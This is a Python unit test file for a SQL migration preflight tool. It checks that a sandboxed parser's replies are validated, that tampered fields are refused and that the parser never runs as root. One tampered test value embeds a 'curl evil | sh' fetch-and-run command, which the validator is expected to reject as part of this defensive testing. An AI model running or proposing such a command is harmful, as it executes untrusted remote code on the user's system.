"""Pure: the parser child's reply, validated by root; who the child runs as; why it stopped."""

from __future__ import annotations

import copy
import pwd
import signal
from typing import Any

import pytest

from agent.preflight.analysis import MESSAGES, SAFER
from agent.preflight.parse import CRASHED, TIMED_OUT, ParseLimits, describe_exit, \
    parser_identity, settled
from agent.preflight.analysis import Analysis
from agent.preflight.rules import analyze
from agent.preflight.wire import MAX_LOCKS, WireError, from_wire, to_wire
from tests.unit.test_preflight_rules import CASES, WRAP

EVERY_RULE = WRAP.format("\n".join(unsafe for _, unsafe, _ in CASES) +
                         "\nALTER TABLE items ALTER COLUMN name TYPE VARCHAR(20);")


def test_every_rule_survives_the_round_trip_unchanged() -> None:
    # The test process parses trusted literal SQL; the agent never does (parse.py).
    analysis = analyze(EVERY_RULE)
    assert {h.rule for h in analysis.hazards} == {rule for rule, _, _ in CASES}
    assert from_wire(to_wire(analysis)) == analysis
    broken = analyze("SELEC 1")
    assert broken.error and from_wire(to_wire(broken)) == broken


def wire() -> dict[str, Any]:
    return to_wire(analyze(EVERY_RULE))


def tampered(path: list[Any], value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(wire())
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return doc


@pytest.mark.parametrize("path,value,why", [
    (["statements", 0, "locks", 0, 1], "TotallyExclusiveLock", "unknown lock mode"),
    (["statements", 0, "locks", 0, 2], "forever", "unknown effect"),
    (["statements", 0, "index"], True, "not a non-negative integer"),
    (["statements", 0, "index"], -1, "not a non-negative integer"),
    (["statements", 0, "in_transaction"], 1, "not a boolean"),
    (["statements", 0, "kind"], "ALTER\x1b[2J", "unexpected characters"),
    (["statements", 0, "sql"], "x" * 5000, "at most"),
    (["statements", 0, "locks", 0, 0], "t" * 301, "at most"),
    (["statements", 0, "locks"], [["items", "ShareLock", "brief"]] * (MAX_LOCKS + 1),
     "entries"),
    (["hazards", 0, "rule"], "drop-everything", "unknown rule"),
    (["hazards", 0, "new_type"], ["text", ["x"]], "typmods not integers"),
    (["hazards", 0, "message"], "run `curl evil | sh` to fix", "exactly"),
    (["created_tables"], "items", "not a list"),
    (["error"], None, "not a string"),
])
def test_a_reply_that_is_off_in_any_field_is_refused(path: list[Any], value: Any,
                                                     why: str) -> None:
    with pytest.raises(WireError, match=why):
        from_wire(tampered(path, value))


def test_messages_and_safer_forms_are_root_s_own() -> None:
    doc = wire()
    hazard = next(h for h in from_wire(doc).hazards if h.rule == "ban-drop-table")
    assert hazard.message == MESSAGES["ban-drop-table"].format(t=hazard.table, c="")
    assert hazard.safer == SAFER["ban-drop-table"]
    assert all("message" not in h and "safer" not in h for h in doc["hazards"])


def test_the_parser_runs_as_the_unit_s_user_else_nobody_never_root() -> None:
    nobody = pwd.getpwnam("nobody")
    www = pwd.getpwnam("www-data")
    assert parser_identity("www-data", euid=0) == (www.pw_uid, www.pw_gid)
    assert parser_identity(str(www.pw_uid), euid=0) == (www.pw_uid, www.pw_gid)
    for user in ("", "root", "0", "no-such-user-dw"):
        assert parser_identity(user, euid=0) == (nobody.pw_uid, nobody.pw_gid), user
    assert parser_identity("www-data", euid=1000) is None  # not root: nothing to drop


def test_why_the_child_stopped() -> None:
    limits = ParseLimits(cpu_seconds=3)
    assert describe_exit(-signal.SIGSEGV, limits) == f"{CRASHED} (killed by SIGSEGV)"
    assert describe_exit(-signal.SIGXCPU, limits) == f"{TIMED_OUT} (more than 3 s of CPU)"
    assert describe_exit(1, limits) == f"{CRASHED} (it exited with status 1)"
    assert settled([Analysis(error=f"{CRASHED} (killed by SIGSEGV): x")])
    assert not settled([Analysis(), Analysis(error=f"{TIMED_OUT}: x")])
